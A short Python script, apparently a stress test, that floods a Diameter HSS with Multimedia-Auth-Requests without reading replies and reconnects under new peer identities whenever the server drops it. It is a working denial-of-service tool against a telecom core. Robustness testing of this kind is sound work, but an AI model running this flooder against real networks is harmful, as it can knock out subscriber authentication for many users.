#!/usr/bin/env python3
"""A peer that asks without end and never reads an answer.

usage: flood.py PORT REALM IMPI IMPU SERVER-NAME

Sends sound MARs until the HSS closes the connection, then again under another identity. Writes a line for every
5000 MARs and for every connection that was closed. Ends when it is told to, or when nobody listens any more.
"""
import itertools
import os
import sys

from peer import Peer, mar

PORT, REALM, IMPI, IMPU, SERVER = int(sys.argv[1]), *sys.argv[2:6]
BATCH = 50


def flood(host):
    with Peer(PORT, host, REALM, receive_buffer=4096) as peer:
        peer.sock.settimeout(None)
        for start in itertools.count(0, BATCH):
            if start % 5000 == 0:
                print("sent %d" % start, flush=True)
            try:
                peer.send(b"".join(mar(host, REALM, hop, IMPI, IMPU, SERVER, 5) for hop in range(start, start + BATCH)))
            except OSError:
                print("closed", flush=True)
                return


for n in itertools.count(1):
    try:
        flood("flood%d-%d.%s" % (os.getpid(), n, REALM))
    except ConnectionRefusedError:
        break
    except OSError:
        continue  # the HSS closed the connection before it answered the CER
